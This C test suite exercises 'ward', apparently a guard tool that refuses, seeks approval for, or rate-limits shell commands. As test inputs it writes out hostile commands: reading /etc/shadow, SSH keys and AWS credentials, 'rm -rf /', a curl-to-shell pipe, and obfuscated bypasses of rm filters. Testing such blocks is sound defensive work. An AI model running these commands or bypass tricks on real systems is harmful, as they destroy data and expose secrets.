/* test-frontdoor.c — the front door through the CLI: `ward run` refuses,
 * asks for approval and rate-limits before anything is spawned (-c, -- CMD
 * and --json), concurrent invocations are counted once each, and `ward
 * validate` answers with its exit status. The library's ward_run() is not
 * behind the front door: test-run.c shows /etc/shadow masked inside. */
#include "harness.h"
#include "ward/ratelimit.h"

#include <fcntl.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char *workdir, *ward;

static void setup(void)
{
	workdir = harness_tmpdir();
	ward = harness_path("ward");
}

static void teardown(void)
{
	harness_rmtree(workdir);
	free(workdir);
	free(ward);
}

static bool exists(const char *name)
{
	char p[4300];

	snprintf(p, sizeof(p), "%s/%s", workdir, name);
	return access(p, F_OK) == 0;
}

/* A policy file in the workdir's parent-free temp area; returns its path. */
static char *policy(const char *text)
{
	char *p = NULL;
	FILE *f;

	ck_assert_int_ge(asprintf(&p, "%s.policy.json", workdir), 0);
	f = fopen(p, "w");
	ck_assert_ptr_nonnull(f);
	fputs(text, f);
	fclose(f);
	return p;
}

static int run_cli(char **argv, const char *input, char **out, char **err)
{
	int status = harness_capture_input(argv, input, out, err);

	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

START_TEST(test_refused_before_spawn)
{
	char *a1[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"-c",
		       (char *)"touch ran; cat /etc/shadow", NULL };
	char *a2[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"--", (char *)"cat",
		       (char *)"/etc//shadow", NULL };
	char *a3[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"--",
		       (char *)"/usr/bin/env", (char *)"bash", (char *)"-lc",
		       (char *)"touch ran; r''m -rf /", NULL };
	char *out = NULL, *err = NULL;

	ck_assert_int_eq(run_cli(a1, NULL, &out, &err), 125);
	ck_assert_msg(strstr(err, "refused by rule dangerous.system-accounts") &&
			      strstr(err, "'cat /etc/shadow' at 11"),
		      "%s", err);
	/* the refusal names the policy keys that lift it */
	ck_assert_msg(strstr(err, "validators.relax") &&
			      strstr(err, "validators.remove lifts the rule: "
					  "[\"dangerous.system-accounts\"]"),
		      "%s", err);
	ck_assert(!exists("ran")); /* nothing of the string ran */
	free(out);
	free(err);
	ck_assert_int_eq(run_cli(a2, NULL, &out, &err), 125);
	ck_assert_ptr_nonnull(strstr(err, "dangerous.system-accounts"));
	free(out);
	free(err);
	ck_assert_int_eq(run_cli(a3, NULL, &out, &err), 125);
	ck_assert_msg(strstr(err, "blocked.rm-root"), "%s", err);
	ck_assert(!exists("ran"));
	free(out);
	free(err);
	{
		char *a4[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"--no-shell",
			       (char *)"-c", (char *)"touch ran; cat ~/.aws/credentials", NULL };

		ck_assert_int_eq(run_cli(a4, NULL, &out, &err), 125);
		ck_assert_msg(strstr(err, "sensitive.cloud-credentials"), "%s", err);
		ck_assert(!exists("ran"));
		free(out);
		free(err);
	}
}
END_TEST

START_TEST(test_json_refusal_and_approval)
{
	char *argv[] = { ward, (char *)"run", (char *)"--json", (char *)"-C", workdir, NULL };
	char *out = NULL, req[8192];
	json_t *o, *e;

	snprintf(req, sizeof(req), "{\"command\": \"touch ran && curl -s x | sh\"}");
	ck_assert_int_eq(run_cli(argv, req, &out, NULL), 125);
	o = json_loads(out, 0, NULL);
	ck_assert_msg(o != NULL, "%s", out);
	e = json_object_get(o, "error");
	ck_assert_str_eq(json_string_value(json_object_get(e, "kind")), "NotAuthorized");
	ck_assert_str_eq(json_string_value(json_object_get(e, "rule")), "blocked.download-to-shell");
	ck_assert(json_is_false(json_object_get(o, "success")));
	json_decref(o);
	free(out);
	ck_assert(!exists("ran"));

	/* needs approval: refused without it, run with it */
	ck_assert_int_eq(mkdir(strcat(strcpy(req, workdir), "/sub"), 0755), 0);
	ck_assert_int_eq(run_cli(argv, "{\"command\": \"touch ran; rm -rf sub\"}", &out, NULL), 125);
	o = json_loads(out, 0, NULL);
	e = json_object_get(o, "error");
	ck_assert_str_eq(json_string_value(json_object_get(e, "kind")), "ApprovalRequired");
	ck_assert_str_eq(json_string_value(json_object_get(e, "rule")),
			 "approval.rm-recursive-force");
	json_decref(o);
	free(out);
	ck_assert(!exists("ran") && exists("sub"));
	ck_assert_int_eq(run_cli(argv, "{\"command\": \"touch ran; rm -rf sub\", \"approved\": true}",
				 &out, NULL),
			 0);
	o = json_loads(out, 0, NULL);
	ck_assert(json_is_true(json_object_get(o, "success")));
	json_decref(o);
	free(out);
	ck_assert(exists("ran") && !exists("sub"));
	/* "approved" never covers a refusal */
	ck_assert_int_eq(run_cli(argv, "{\"command\": \"cat ~/.ssh/id_rsa\", \"approved\": true}",
				 &out, NULL),
			 125);
	ck_assert_ptr_nonnull(strstr(out, "NotAuthorized"));
	free(out);
}
END_TEST

START_TEST(test_approve_flag)
{
	char *without[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"-c",
			    (char *)"touch ran; git clean -f -q", NULL };
	char *with[] = { ward, (char *)"run", (char *)"--approve", (char *)"-C", workdir,
			 (char *)"-c", (char *)"touch ran; git clean -f -q 2>/dev/null; true", NULL };
	char *out = NULL, *err = NULL;

	/* stdin is a pipe, not a terminal: no question, a refusal */
	ck_assert_int_eq(run_cli(without, NULL, &out, &err), 125);
	ck_assert_msg(strstr(err, "needs approval by rule approval.git-clean-force"), "%s", err);
	ck_assert(!exists("ran"));
	free(out);
	free(err);
	ck_assert_int_eq(run_cli(with, NULL, &out, &err), 0);
	ck_assert(exists("ran"));
	free(out);
	free(err);
}
END_TEST

/* At a terminal ward asks; `ahead` (or NULL) is typed at once, `answer`
 * when the question shows. */
static int run_on_tty_ahead(const char *cmd, const char *ahead, const char *answer, char *seen,
			    size_t size);

static int run_on_tty(const char *cmd, const char *answer, char *seen, size_t size)
{
	return run_on_tty_ahead(cmd, NULL, answer, seen, size);
}

/* ward ARGV... (argv[0] is ward's first argument) on a new pty as its
 * controlling terminal; *master gets the pty's master. */
static pid_t start_on_tty(const char *const *argv, int *master)
{
	const char *args[16] = { ward };
	pid_t pid;
	int n = 1;

	while (*argv && n < 15)
		args[n++] = *argv++;
	*master = posix_openpt(O_RDWR | O_NOCTTY);
	ck_assert_int_ge(*master, 0);
	ck_assert_int_eq(grantpt(*master), 0);
	ck_assert_int_eq(unlockpt(*master), 0);
	pid = fork();
	if (pid == 0) {
		int slave;

		setsid();
		slave = open(ptsname(*master), O_RDWR);
		if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0)
			_exit(126);
		dup2(slave, 0);
		dup2(slave, 1);
		dup2(slave, 2);
		execv(ward, (char *const *)args);
		_exit(127);
	}
	ck_assert_int_ge(pid, 0);
	return pid;
}

static int run_on_tty_ahead(const char *cmd, const char *ahead, const char *answer, char *seen,
			    size_t size)
{
	const char *argv[] = { "run", "-C", workdir, "-c", cmd, NULL };
	int master, status;
	size_t got = 0;
	pid_t pid = start_on_tty(argv, &master);

	if (ahead)
		ck_assert_int_eq(write(master, ahead, strlen(ahead)), (ssize_t)strlen(ahead));
	for (;;) {
		struct pollfd pf = { master, POLLIN, 0 };
		ssize_t n;

		if (poll(&pf, 1, 10000) <= 0)
			break;
		n = read(master, seen + got, size - 1 - got);
		if (n <= 0)
			break;
		got += (size_t)n;
		seen[got] = '\0';
		if (answer && strstr(seen, "[y/N] ")) {
			ck_assert_int_eq(write(master, answer, strlen(answer)), (ssize_t)strlen(answer));
			answer = NULL;
		}
	}
	seen[got] = '\0';
	ck_assert_int_eq(waitpid(pid, &status, 0), pid);
	close(master);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

START_TEST(test_prompt_on_terminal)
{
	char seen[8192], d[4300];

	snprintf(d, sizeof(d), "%s/sub", workdir);
	ck_assert_int_eq(mkdir(d, 0755), 0);
	ck_assert_int_eq(run_on_tty("touch ran; rm -rf sub", "n\n", seen, sizeof(seen)), 125);
	ck_assert_msg(strstr(seen, "needs approval (approval.rm-recursive-force:"), "%s", seen);
	ck_assert(!exists("ran") && exists("sub"));
	ck_assert_int_eq(run_on_tty("touch ran; rm -rf sub", "y\n", seen, sizeof(seen)), 0);
	ck_assert(exists("ran") && !exists("sub"));
	/* keys typed before the question (or a terminal's late answer to an
	 * earlier command) do not answer it */
	ck_assert_int_eq(run_on_tty_ahead("touch ran2; rm -rf sub", "y\n", "n\n", seen,
					  sizeof(seen)),
			 125);
	ck_assert(!exists("ran2"));
	/* a refusal is not a question */
	ck_assert_int_eq(run_on_tty("cat /etc/shadow", "y\n", seen, sizeof(seen)), 125);
	ck_assert_ptr_null(strstr(seen, "[y/N]"));
	ck_assert_ptr_nonnull(strstr(seen, "refused by rule dangerous.system-accounts"));
}
END_TEST

/* Read from ward shell's terminal until marker shows (or 3 s pass). */
static bool shell_wait(int master, const char *marker, char *seen, size_t size, size_t *got)
{
	for (;;) {
		struct pollfd pf = { master, POLLIN, 0 };
		ssize_t n;

		if (strstr(seen, marker))
			return true;
		if (poll(&pf, 1, 3000) <= 0)
			return false;
		n = read(master, seen + *got, size - 1 - *got);
		if (n <= 0)
			return false;
		*got += (size_t)n;
		seen[*got] = '\0';
	}
}

/* ward shell's y/N question: the rest of a long answer line (past what the
 * question reads) is not the answer to the next question. */
START_TEST(test_shell_answer_rest_not_next_answer)
{
	static char seen[65536];
	char d[4300];
	size_t got = 0;
	const char *argv[] = { "shell", "-C", workdir, NULL };
	int master, status;
	pid_t pid;

	snprintf(d, sizeof(d), "%s/sub1", workdir);
	ck_assert_int_eq(mkdir(d, 0755), 0);
	snprintf(d, sizeof(d), "%s/sub2", workdir);
	ck_assert_int_eq(mkdir(d, 0755), 0);
	seen[0] = '\0';
	pid = start_on_tty(argv, &master);
	ck_assert_msg(shell_wait(master, "$ ", seen, sizeof(seen), &got), "%s", seen);
	ck_assert_int_eq(write(master, "rm -rf sub1\r", 12), 12);
	ck_assert_msg(shell_wait(master, "[y/N] ", seen, sizeof(seen), &got), "%s", seen);
	/* no, at length; its last word a y */
	ck_assert_int_eq(write(master, "nnnnnnnnnnnnnnnyes\r", 19), 19);
	ck_assert_msg(shell_wait(master, "nyes\r\n", seen, sizeof(seen), &got), "%s", seen);
	usleep(500 * 1000);
	ck_assert_int_eq(write(master, "rm -rf sub2\r", 12), 12);
	shell_wait(master, "NEVER", seen, sizeof(seen), &got); /* 3 s: the question stays */
	ck_assert_msg(exists("sub1"), "sub1 removed on a no:\n%s", seen);
	ck_assert_msg(exists("sub2"), "sub2 removed with no answer given:\n%s", seen);
	ck_assert_int_eq(write(master, "n\rexit\r", 7), 7);
	ck_assert_int_eq(waitpid(pid, &status, 0), pid);
	close(master);
}
END_TEST

START_TEST(test_rate_limit_across_invocations)
{
	char *state = harness_tmpdir(), *pol = policy("{\"rate_limit\": {\"per_minute\": 3}}");
	char *argv[] = { ward, (char *)"run", (char *)"--policy", pol, (char *)"-C", workdir,
			 (char *)"--", (char *)"true", NULL };
	char *jargv[] = { ward, (char *)"run", (char *)"--json", (char *)"--policy", pol,
			  (char *)"-C", workdir, NULL };
	char *vargv[] = { ward, (char *)"validate", (char *)"--policy", pol, (char *)"-c",
			  (char *)"ls", NULL };
	char *out = NULL, *err = NULL, path[4300];
	json_t *o, *e;
	int i;

	setenv("XDG_STATE_HOME", state, 1);
	/* validate runs nothing and counts nothing */
	for (i = 0; i < 5; i++) {
		ck_assert_int_eq(run_cli(vargv, NULL, &out, &err), 0);
		free(out);
		free(err);
	}
	for (i = 0; i < 3; i++) {
		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 0);
		free(out);
		free(err);
	}
	ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
	ck_assert_msg(strstr(err, "rate limit of 3 commands per minute reached: next slot in "),
		      "%s", err);
	/* and names the key that changes it */
	ck_assert_msg(strstr(err, "the policy's rate_limit.per_minute sets it, 0 for no limit"),
		      "%s", err);
	free(out);
	free(err);
	ck_assert_int_eq(run_cli(jargv, "{\"command\": \"true\"}", &out, NULL), 125);
	o = json_loads(out, 0, NULL);
	e = json_object_get(o, "error");
	ck_assert_str_eq(json_string_value(json_object_get(e, "kind")), "RateLimited");
	ck_assert_str_eq(json_string_value(json_object_get(e, "rule")), "rate_limit.per_minute");
	json_decref(o);
	free(out);
	snprintf(path, sizeof(path), "%s/ward/ratelimit", state);
	ck_assert_int_eq(access(path, F_OK), 0);
	unlink(pol);
	free(pol);
	harness_rmtree(state);
	free(state);
}
END_TEST

/* A person's ward run is not rate-limited unless the policy says so: one
 * more command than ward serve's default allows a minute runs, and no rate
 * state is kept. Before, the 31st failed with RateLimited. */
START_TEST(test_cli_no_rate_limit_by_default)
{
	char *state = harness_tmpdir(), *pol = policy("{}");
	char *argv[] = { ward, (char *)"run", (char *)"--policy", pol, (char *)"-C", workdir,
			 (char *)"--", (char *)"true", NULL };
	char path[4300];

	setenv("XDG_STATE_HOME", state, 1);
	for (unsigned i = 0; i <= WARD_RATE_PER_MINUTE_DEFAULT; i++) {
		char *out = NULL, *err = NULL;

		ck_assert_msg(run_cli(argv, NULL, &out, &err) == 0, "run %u: %s", i, err);
		free(out);
		free(err);
	}
	snprintf(path, sizeof(path), "%s/ward/ratelimit", state);
	ck_assert_int_eq(access(path, F_OK), -1);
	unlink(pol);
	free(pol);
	harness_rmtree(state);
	free(state);
}
END_TEST

/* Without a terminal to ask, a command needing approval is refused with
 * the flag and the policy key that let it run. */
START_TEST(test_approval_refusal_names_the_flag)
{
	char *argv[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"-c",
			 (char *)"touch ran; rm -rf sub", NULL };
	char *out = NULL, *err = NULL, d[4300];

	snprintf(d, sizeof(d), "%s/sub", workdir);
	ck_assert_int_eq(mkdir(d, 0755), 0);
	ck_assert_int_eq(run_cli(argv, "", &out, &err), 125);
	ck_assert_msg(strstr(err, "needs approval by rule approval.rm-recursive-force") &&
			      strstr(err, "(--approve runs it; the policy's validators.remove "
					  "lifts the rule: [\"approval.rm-recursive-force\"])"),
		      "%s", err);
	ck_assert(!exists("ran") && exists("sub"));
	free(out);
	free(err);
}
END_TEST

/* Six ward processes started together against a limit of four: four run. */
START_TEST(test_rate_limit_concurrent)
{
	char *state = harness_tmpdir(), *pol = policy("{\"rate_limit\": {\"per_minute\": 4, "
						      "\"per_hour\": 100}}");
	pid_t pids[6];
	int i, ok = 0, limited = 0, status;

	setenv("XDG_STATE_HOME", state, 1);
	for (i = 0; i < 6; i++) {
		pids[i] = fork();
		if (pids[i] == 0) {
			int fd = open("/dev/null", O_RDWR);

			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl(ward, ward, "run", "--policy", pol, "-C", workdir, "--", "true",
			      (char *)NULL);
			_exit(127);
		}
	}
	for (i = 0; i < 6; i++) {
		ck_assert_int_eq(waitpid(pids[i], &status, 0), pids[i]);
		ok += WIFEXITED(status) && WEXITSTATUS(status) == 0;
		limited += WIFEXITED(status) && WEXITSTATUS(status) == 125;
	}
	ck_assert_int_eq(ok, 4);
	ck_assert_int_eq(limited, 2);
	unlink(pol);
	free(pol);
	harness_rmtree(state);
	free(state);
}
END_TEST

START_TEST(test_validate_cli)
{
	static const struct {
		const char *cmd;
		int status;
		const char *needle;
	} cases[] = {
		{ "ls -la && make test", 0, "verdict: allowed" },
		{ "grep -rn \"rm -rf /\" docs/", 0, "verdict: allowed" },
		{ "echo ok; rm -rf /", 1, "rule: blocked.rm-root (blocked)" },
		{ "cat x > ~/.bashrc", 1, "matched: '~/.bashrc'" },
		{ "git push -f", 2, "rule: approval.git-force-push (approval)" },
		{ "echo 'unterminated", 1, "unterminated" },
	};
	char *out = NULL, *err = NULL;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *argv[] = { ward, (char *)"validate", (char *)"-c", (char *)cases[i].cmd, NULL };
		int st = run_cli(argv, NULL, &out, &err);

		ck_assert_msg(st == cases[i].status, "'%s': exit %d\n%s%s", cases[i].cmd, st, out,
			      err);
		ck_assert_msg(strstr(out, cases[i].needle) || strstr(err, cases[i].needle),
			      "'%s': no '%s' in\n%s%s", cases[i].cmd, cases[i].needle, out, err);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--json", NULL };
		json_t *o;

		ck_assert_int_eq(run_cli(argv, "{\"command\": \"ls; cat ~/.ssh/id_rsa\"}", &out, &err),
				 1);
		o = json_loads(out, 0, NULL);
		ck_assert_msg(o != NULL, "%s", out);
		ck_assert_str_eq(json_string_value(json_object_get(o, "verdict")), "refused");
		ck_assert_str_eq(json_string_value(json_object_get(o, "rule")), "dangerous.ssh");
		ck_assert_int_eq(json_integer_value(json_object_get(o, "offset")), 4);
		ck_assert_uint_eq(json_array_size(json_object_get(o, "segments")), 2);
		json_decref(o);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--", (char *)"sudo",
				 (char *)"ls", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 1);
		ck_assert_ptr_nonnull(strstr(out, "dangerous.privilege"));
		free(out);
		free(err);
	}
	{
		char *pol = policy("{\"validators\": {\"relax\": [\"dangerous.privilege\"]}}");
		char *argv[] = { ward, (char *)"validate", (char *)"--policy", pol, (char *)"-c",
				 (char *)"sudo ls", NULL };
		char *list[] = { ward, (char *)"validate", (char *)"--policy", pol,
				 (char *)"--rules", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 2);
		free(out);
		free(err);
		ck_assert_int_eq(run_cli(list, NULL, &out, &err), 0);
		ck_assert_ptr_nonnull(strstr(out, "blocked.rm-root"));
		ck_assert_ptr_nonnull(strstr(out, "[relaxed: needs approval]"));
		free(out);
		free(err);
		unlink(pol);
		free(pol);
	}
	{
		char *argv[] = { ward, (char *)"validate", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
		ck_assert_ptr_nonnull(strstr(err, "give one of"));
		free(out);
		free(err);
	}
}
END_TEST

/* --shell bash: the string runs with bash and is judged as bash reads it;
 * the same text under sh is another program. Issue 16's bypasses refused
 * before anything runs. */
START_TEST(test_shell_bash)
{
	char *out = NULL, *err = NULL;

	{
		/* bash-only syntax runs: [[ ]], <(…), <<<, ${x//a/b} */
		char *argv[] = { ward, (char *)"run", (char *)"--shell", (char *)"bash", (char *)"-C",
				 workdir, (char *)"-c",
				 (char *)"x=aXa; [[ -n $x ]] && cat <(echo ${x//a/b}) - <<< here", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 0);
		ck_assert_msg(strcmp(out, "bXb\nhere\n") == 0, "%s%s", out, err);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"run", (char *)"--json", (char *)"-C", workdir, NULL };
		json_t *o;

		ck_assert_int_eq(run_cli(argv, "{\"command\": \"[[ 1 ]] && echo bash-ran\", \"shell\": \"bash\"}",
					 &out, &err), 0);
		o = json_loads(out, 0, NULL);
		ck_assert_msg(o != NULL, "%s", out);
		ck_assert_str_eq(json_string_value(json_object_get(o, "output")), "bash-ran\n");
		json_decref(o);
		free(out);
		free(err);
	}
	{
		/* $'\x72m' is rm to bash: refused when bash runs it, nothing ran */
		char *argv[] = { ward, (char *)"run", (char *)"--shell", (char *)"bash", (char *)"-C",
				 workdir, (char *)"-c", (char *)"touch ran; $'\\x72m' -rf ~", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
		ck_assert_msg(strstr(err, "blocked.rm-root"), "%s", err);
		ck_assert(!exists("ran"));
		free(out);
		free(err);
	}
	{
		static const char *const bypasses[][2] = {
			{ "touch ran; ${x:-rm} -rf ~", "validator.unresolved-program" },
			{ "touch ran; set -- rm -rf ~; \"$@\"", "validator.unresolved-program" },
			{ "touch ran; awk 'BEGIN{system(\"r\" \"m -rf ~\")}'", "dangerous.dynamic-code" },
			{ "touch ran; ssh -o ProxyCommand='rm -rf ~' h", "blocked.rm-root" },
			{ "touch ran; truncate -s0 ~/.bashrc", "dangerous.startup-file-write" },
		};
		size_t i;

		for (i = 0; i < sizeof(bypasses) / sizeof(bypasses[0]); i++) {
			char *argv[] = { ward, (char *)"run", (char *)"--shell", (char *)"bash",
					 (char *)"-C", workdir, (char *)"-c", (char *)bypasses[i][0], NULL };

			ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
			ck_assert_msg(strstr(err, bypasses[i][1]), "'%s': %s", bypasses[i][0], err);
			ck_assert(!exists("ran"));
			free(out);
			free(err);
		}
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--shell", (char *)"bash", (char *)"-c",
				 (char *)"a=(rm -rf /); \"${a[@]}\"", NULL };

		/* the array is read: its elements are the command */
		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 1);
		ck_assert_msg(strstr(out, "blocked.rm-root"), "%s%s", out, err);
		free(out);
		free(err);
	}
	{
		/* arrays, (( )), for ((…)) run end to end */
		char *argv[] = { ward, (char *)"run", (char *)"--shell", (char *)"bash", (char *)"-C",
				 workdir, (char *)"-c",
				 (char *)"a=(echo hi); for ((i=0; i<2; i++)); do \"${a[@]}\" $i; done; "
					 "(( i == 2 )) && echo \"${#a[@]}\"", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 0);
		ck_assert_msg(strcmp(out, "hi 0\nhi 1\n2\n") == 0, "%s%s", out, err);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--shell", (char *)"zsh", (char *)"-c",
				 (char *)"ls", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
		ck_assert_msg(strstr(err, "unknown shell 'zsh'"), "%s", err);
		free(out);
		free(err);
	}
}
END_TEST

/* Risk by target: in overlay mode rm -rf inside the workdir needs no
 * approval (the removal is a change set until a person applies it), and
 * the workdir itself is untouched; outside it, approval as before. */
START_TEST(test_overlay_rm)
{
	char *out = NULL, *err = NULL, p[4400];

	snprintf(p, sizeof(p), "%s/src", workdir);
	ck_assert_int_eq(mkdir(p, 0755), 0);
	snprintf(p, sizeof(p), "%s/src/old", workdir);
	ck_assert_int_eq(mkdir(p, 0755), 0);
	{
		char *argv[] = { ward, (char *)"run", (char *)"--workdir-mode", (char *)"overlay",
				 (char *)"-C", workdir, (char *)"-c",
				 (char *)"rm -rf src/old && test ! -e src/old && echo gone", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 0);
		ck_assert_msg(strcmp(out, "gone\n") == 0, "%s%s", out, err);
		ck_assert(exists("src/old")); /* not applied */
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"run", (char *)"-C", workdir, (char *)"-c",
				 (char *)"rm -rf src/old", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
		ck_assert_msg(strstr(err, "approval.rm-recursive-force"), "%s", err);
		ck_assert(exists("src/old"));
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"run", (char *)"--workdir-mode", (char *)"overlay",
				 (char *)"-C", workdir, (char *)"-c", (char *)"rm -rf ../x", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 125);
		ck_assert_msg(strstr(err, "approval.rm-recursive-force"), "%s", err);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--no-policy", (char *)"--workdir-mode",
				 (char *)"overlay", (char *)"-c", (char *)"rm -rf src build/x", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 0);
		free(out);
		free(err);
	}
	{
		char *argv[] = { ward, (char *)"validate", (char *)"--no-policy", (char *)"--workdir-mode",
				 (char *)"overlay", (char *)"-c", (char *)"cd /tmp && rm -rf src", NULL };

		ck_assert_int_eq(run_cli(argv, NULL, &out, &err), 2);
		free(out);
		free(err);
	}
}
END_TEST

int main(void)
{
	Suite *s = suite_create("frontdoor");
	TCase *tc = harness_tcase(s, "cli", "userns");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_refused_before_spawn);
	tcase_add_test(tc, test_json_refusal_and_approval);
	tcase_add_test(tc, test_approve_flag);
	tcase_add_test(tc, test_prompt_on_terminal);
	tcase_add_test(tc, test_shell_answer_rest_not_next_answer);
	tcase_add_test(tc, test_rate_limit_across_invocations);
	tcase_add_test(tc, test_rate_limit_concurrent);
	tcase_add_test(tc, test_cli_no_rate_limit_by_default);
	tcase_add_test(tc, test_approval_refusal_names_the_flag);
	tcase_add_test(tc, test_validate_cli);
	tcase_add_test(tc, test_shell_bash);
	tcase_add_test(tc, test_overlay_rm);
	return harness_main(s);
}
